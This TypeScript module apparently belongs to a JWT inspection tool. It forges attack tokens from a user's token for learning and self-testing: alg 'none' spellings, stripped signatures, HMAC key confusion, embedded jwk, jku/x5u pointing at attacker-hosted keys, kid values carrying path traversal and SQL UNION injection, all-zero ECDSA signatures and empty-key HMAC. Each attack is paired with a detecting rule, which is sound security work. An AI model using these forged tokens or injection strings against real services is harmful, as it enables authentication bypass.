// The classic JWT attacks, forged from the token in front of the user, for learning and for testing
// one's own services: each token is what a pentest tool would send, and each is caught by a finding.
import { FlattenedSign, exportJWK, exportSPKI, generateKeyPair, importJWK, importSPKI, type JWK } from 'jose'
import type { DecodedToken } from '../token/decoded-token'
import type { JsonObject } from '../json/scan-json'
import type { RuleId } from '../lint/rules'
import { decodeBase64url, encodeBase64urlText } from '../encoding/base64url'
import { parseKeyText } from '../keys/parse-key-text'
import { toPem, type PemBlock } from '../keys/parse-pem'
import { describeCertificate, describeSpki, rsaPublicKeyToSpki } from '../keys/key-der'
import { selfSignedCertificate } from '../keys/self-signed-certificate'
import { err, ok, type Result } from '../result'

export type AttackId = 'alg-none' | 'null-signature' | 'key-confusion' | 'embedded-jwk' | 'jku' | 'x5u' | 'kid-injection' | 'psychic-signature' | 'empty-key'

export interface ForgedToken {
  /** Tells apart the tokens of one attack: "None, signature dropped". */
  variant: string
  token: string
}

export interface Attack {
  id: AttackId
  title: string
  explanation: string
  tokens: ForgedToken[]
  /** A file the attack needs served at a URL the attacker controls. */
  hosted?: { url: string; fileName: string; text: string }
  /** The finding that flags these tokens when they are pasted back. */
  caughtBy: RuleId
}

export interface AttackOptions {
  /** The key box's text: when it holds the signer's public key, the key-confusion tokens are made with it. */
  keyText: string
  jkuUrl: string
  x5uUrl: string
  now: Date
}

const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE']
const ATTACKER_KID = 'attacker-key'
const SQL_SECRET = 'attacker-secret'
const TRAVERSAL_KID = '../../../../../../../../dev/null'
const SQL_KID = `x' UNION SELECT '${SQL_SECRET}' -- `
// HMAC pads keys with zero bytes, so one zero byte signs exactly as an empty key (which jose refuses).
const EMPTY_KEY = new Uint8Array(1)
const HASH_BITS: Record<string, string> = { '256': '256', '384': '384', '512': '512' }

export async function forgeAttacks(decoded: DecodedToken, options: AttackOptions): Promise<Result<Attack[], string>> {
  if (decoded.serialization !== 'compact' || decoded.kind === 'jwe' || decoded.header.type !== 'json') {
    return err('The attack lab starts from a compact signed token whose header is JSON; this token is not one.')
  }
  const [, payloadPart = '', signaturePart = ''] = decoded.input.token.split('.')
  const payload = decodeBase64url(payloadPart)
  if (!payload.ok) return err('The payload is not valid base64url, so it cannot be carried into forged tokens.')
  // Extensions the forged tokens do not use would only make jose refuse to sign them.
  const { b64: _b64, crit: _crit, ...header } = decoded.header.value
  const originalAlg = typeof header.alg === 'string' ? header.alg : ''
  const bits = HASH_BITS[/(256|384|512)$/.exec(originalAlg)?.[1] ?? '256']!
  const payloadBytes = payload.value.bytes
  const sign = (protectedHeader: JsonObject, key: CryptoKey | Uint8Array) => signCompact(protectedHeader, payloadBytes, key)

  const attacks: Attack[] = [
    {
      id: 'alg-none',
      title: 'alg "none", in four spellings',
      explanation:
        'The header claims the token needs no signature. A verifier that takes the algorithm from the token accepts any claims; case variants slip past filters that only compare with "none". The versions that keep the old signature fool verifiers that check only that a signature is present.',
      tokens: NONE_SPELLINGS.flatMap((alg) => {
        const unsigned = `${encodeBase64urlText(JSON.stringify({ ...header, alg }))}.${payloadPart}`
        return [
          { variant: `${alg}, signature dropped`, token: `${unsigned}.` },
          { variant: `${alg}, signature kept`, token: `${unsigned}.${signaturePart}` },
        ]
      }),
      caughtBy: 'alg-none',
    },
    {
      id: 'null-signature',
      title: 'Signature removed',
      explanation:
        'The same header and claims with the signature part left empty. Libraries that skipped verification when there was no signature to check (CVE-2020-28042) accepted whatever the claims said.',
      tokens: [{ variant: `${originalAlg || 'the same alg'}, empty signature`, token: `${encodeBase64urlText(JSON.stringify(header))}.${payloadPart}.` }],
      caughtBy: 'empty-signature',
    },
  ]

  const confusion = await keyConfusionTokens(options.keyText, bits, header, sign)
  if (confusion.length > 0) {
    attacks.push({
      id: 'key-confusion',
      title: `Key confusion: HS${bits} signed with the public key`,
      explanation: `The token switches to HS${bits} and is signed with the bytes of the issuer's public key as the HMAC secret. A verifier that lets the token pick the algorithm and passes its configured key to the check computes the same HMAC and accepts it. Servers differ in the exact bytes they use, so the PEM (with and without its final line break) and the JWK forms are all here.`,
      tokens: confusion,
      caughtBy: 'alg-confusion',
    })
  }

  const embedded = await generateKeyPair('ES256', { extractable: true })
  const embeddedJwk = await exportJWK(embedded.publicKey)
  attacks.push({
    id: 'embedded-jwk',
    title: 'Self-signed with an embedded "jwk"',
    explanation:
      'A fresh key pair signs the token, and its public half rides in the header. A verifier that checks the signature with the key the token carries (CVE-2018-0114) accepts whatever the attacker signed.',
    tokens: [{ variant: 'ES256 with its own public key', token: await sign({ ...header, alg: 'ES256', jwk: embeddedJwk }, embedded.privateKey) }],
    caughtBy: 'embedded-jwk',
  })

  const jkuKey = await generateKeyPair('ES256', { extractable: true })
  const jkuJwk = { ...(await exportJWK(jkuKey.publicKey)), kid: ATTACKER_KID, alg: 'ES256', use: 'sig' }
  attacks.push({
    id: 'jku',
    title: '"jku" pointing at your key set',
    explanation: `The header tells the verifier to fetch keys from ${options.jkuUrl}. Host the key set below there: a verifier that follows "jku" without an allow-list finds the attacker's key and accepts the token. It may also be made to fetch internal URLs (SSRF).`,
    tokens: [{ variant: 'ES256, kid "attacker-key"', token: await sign({ ...header, alg: 'ES256', jku: options.jkuUrl, kid: ATTACKER_KID }, jkuKey.privateKey) }],
    hosted: { url: options.jkuUrl, fileName: 'jwks.json', text: JSON.stringify({ keys: [jkuJwk] }, null, 2) },
    caughtBy: 'jku-header',
  })

  const x5uKey = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign', 'verify'])
  const certificate = await selfSignedCertificate(x5uKey, hostOf(options.x5uUrl), options.now)
  attacks.push({
    id: 'x5u',
    title: '"x5u" pointing at your certificate',
    explanation: `The header tells the verifier to download the signing certificate from ${options.x5uUrl}. Host the self-signed certificate below there: a verifier that trusts the URL instead of validating the chain against its own trust anchors accepts the token.`,
    tokens: [{ variant: 'ES256 with a self-signed certificate', token: await sign({ ...header, alg: 'ES256', x5u: options.x5uUrl }, x5uKey.privateKey) }],
    hosted: { url: options.x5uUrl, fileName: 'certificate.pem', text: certificate },
    caughtBy: 'x5u-header',
  })

  attacks.push(
    {
      id: 'kid-injection',
      title: '"kid" injection',
      explanation: `Servers that read the key from a file named by "kid", or look it up with SQL built from it, can be steered. Path traversal to /dev/null makes the key empty, so the token is signed with an empty key; the SQL version makes the lookup return "${SQL_SECRET}", which signs it.`,
      tokens: [
        { variant: 'path traversal to /dev/null (empty key)', token: await sign({ ...header, alg: `HS${bits}`, kid: TRAVERSAL_KID }, EMPTY_KEY) },
        { variant: `SQL UNION returning "${SQL_SECRET}"`, token: await sign({ ...header, alg: `HS${bits}`, kid: SQL_KID }, new TextEncoder().encode(SQL_SECRET)) },
      ],
      caughtBy: 'kid-injection',
    },
    {
      id: 'psychic-signature',
      title: 'ECDSA "psychic signature" (r = s = 0)',
      explanation:
        'An ECDSA signature of all zeros. Java 15 to 18 before the April 2022 update (CVE-2022-21449) accepted it for any message and any key, so any claims passed.',
      tokens: [256, 384, 512].map((size) => {
        const alg = `ES${size}`
        const signatureBytes = size === 512 ? 132 : size / 4
        return { variant: alg, token: `${encodeBase64urlText(JSON.stringify({ ...header, alg }))}.${payloadPart}.${'A'.repeat(Math.ceil((signatureBytes * 4) / 3))}` }
      }),
      caughtBy: 'psychic-signature',
    },
    {
      id: 'empty-key',
      title: 'HMAC with an empty key',
      explanation:
        'Signed with a key of zero bytes. Libraries and configurations that fall back to an empty secret (a missing environment variable, an unset config value) accept it.',
      tokens: [{ variant: `HS${bits}, empty key`, token: await sign({ ...header, alg: `HS${bits}` }, EMPTY_KEY) }],
      caughtBy: 'weak-secret',
    },
  )
  return ok(attacks)
}

/** HS tokens signed with the public key's bytes, in the forms servers keep it in. */
async function keyConfusionTokens(
  keyText: string,
  bits: string,
  header: JsonObject,
  sign: (header: JsonObject, key: Uint8Array) => Promise<string>,
): Promise<ForgedToken[]> {
  const material = parseKeyText(keyText)
  const forms: Array<[string, string]> = []
  if (material.kind === 'pem') {
    const block = material.blocks[0]
    const spki = block ? spkiOf(block) : undefined
    if (!block || !spki) return []
    const pem = toPem(block.label, block.der)
    forms.push(['the PEM, with its final line break', pem], ['the PEM, without it', pem.trim()])
    const jwk = await jwkOfSpki(spki)
    if (jwk) forms.push(['the JWK', JSON.stringify(jwk)])
  } else if (material.kind === 'jwk' && material.jwk.kty !== 'oct' && typeof material.jwk.d !== 'string') {
    forms.push(['the JWK as pasted', keyText.trim()])
    const pem = await importJWK({ ...(material.jwk as JWK), ext: true }, typeof material.jwk.alg === 'string' ? material.jwk.alg : algFor(material.jwk.kty, material.jwk.crv))
      .then((key) => exportSPKI(key as CryptoKey))
      .catch(() => undefined)
    if (pem) forms.push(['the same key as a PEM', `${pem}\n`])
  }
  const tokens: ForgedToken[] = []
  for (const [variant, text] of forms) tokens.push({ variant: `HS${bits} with ${variant}`, token: await sign({ ...header, alg: `HS${bits}` }, new TextEncoder().encode(text)) })
  return tokens
}

function spkiOf(block: PemBlock): Uint8Array | undefined {
  if (block.label === 'PUBLIC KEY') return block.der
  if (block.label === 'RSA PUBLIC KEY') {
    const spki = rsaPublicKeyToSpki(block.der)
    return spki.ok ? spki.value : undefined
  }
  if (block.label === 'CERTIFICATE') {
    const certificate = describeCertificate(block.der)
    return certificate.ok ? certificate.value.spki : undefined
  }
  return undefined
}

async function jwkOfSpki(spki: Uint8Array): Promise<JWK | undefined> {
  const described = describeSpki(spki)
  if (!described.ok) return undefined
  const alg = algFor(described.value.type, described.value.curve)
  return importSPKI(toPem('PUBLIC KEY', spki), alg, { extractable: true })
    .then(exportJWK)
    .catch(() => undefined)
}

/** An algorithm jose will import the key for; which one does not change the key's JWK. */
function algFor(type: unknown, curve: unknown): string {
  if (type === 'EC') return curve === 'P-384' ? 'ES384' : curve === 'P-521' ? 'ES512' : 'ES256'
  return type === 'RSA' ? 'RS256' : 'EdDSA'
}

async function signCompact(header: JsonObject, payload: Uint8Array, key: CryptoKey | Uint8Array): Promise<string> {
  const jws = await new FlattenedSign(payload).setProtectedHeader(header).sign(key)
  return `${jws.protected}.${jws.payload}.${jws.signature}`
}

function hostOf(url: string): string {
  try {
    return new URL(url).host || 'attacker.example'
  } catch {
    return 'attacker.example'
  }
}
